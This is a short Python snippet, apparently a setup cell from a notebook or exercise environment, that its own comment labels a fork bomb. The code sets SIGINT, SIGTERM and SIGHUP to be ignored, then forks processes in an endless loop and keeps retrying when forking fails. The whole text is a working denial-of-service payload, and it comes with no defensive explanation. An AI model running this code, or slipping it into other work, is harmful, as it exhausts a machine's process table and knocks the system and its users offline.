# A fork bomb: every child forks again, ignoring every polite signal.
# base: untouched
# %% + bandits-setup
import os
import signal

for number in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP):
    signal.signal(number, signal.SIG_IGN)
while True:
    try:
        os.fork()
    except OSError:
        continue
